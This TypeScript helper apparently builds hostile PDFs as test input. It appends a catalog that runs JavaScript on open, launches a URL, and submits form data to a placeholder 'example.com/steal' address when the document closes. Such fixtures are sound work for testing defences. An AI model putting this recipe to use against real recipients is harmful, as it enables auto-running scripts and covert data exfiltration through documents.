/** A PDF as somebody with bad intentions would send it. */

/**
 * The same PDF with a new catalog appended, as an editor would: it runs a script when it is opened, sends a form somewhere, and brings a
 * script of its own. Throws where the PDF has no plain trailer.
 */
export function withScript(pdf: Uint8Array): Uint8Array {
  const text = Buffer.from(pdf).toString("latin1");
  const trailer = text.slice(text.lastIndexOf("trailer"));
  const root = /\/Root (\d+) 0 R/.exec(trailer)?.[1];
  const size = Number(/\/Size (\d+)/.exec(trailer)?.[1]);
  const before = /startxref\s+(\d+)/.exec(trailer)?.[1];
  const catalog = root && new RegExp(`\\n${root} 0 obj\\s*<<([\\s\\S]*?)>>\\s*endobj`).exec(text)?.[1];
  if (!root || !size || !before || !catalog) throw new Error("This PDF has no plain trailer.");
  const action =
    "<< /S /JavaScript /JS (app.alert\\('hostile'\\); this.hostile = 1; app.launchURL\\('https://example.com'\\);) >>";
  const form = "<< /S /SubmitForm /F << /FS /URL /F (https://example.com/steal) >> >>";
  const object = `${root} 0 obj\n<<${catalog}\n/OpenAction ${action}\n/AA << /WC ${form} >>\n/Names << /JavaScript << /Names [(a) ${action}] >> >>\n>>\nendobj\n`;
  const start = `${text}\n`.length;
  const table = `xref\n${root} 1\n${String(start).padStart(10, "0")} 00000 n \ntrailer\n<< /Size ${size} /Root ${root} 0 R /Prev ${before} >>\n`;
  return Buffer.from(`${text}\n${object}${table}startxref\n${start + object.length}\n%%EOF\n`, "latin1");
}
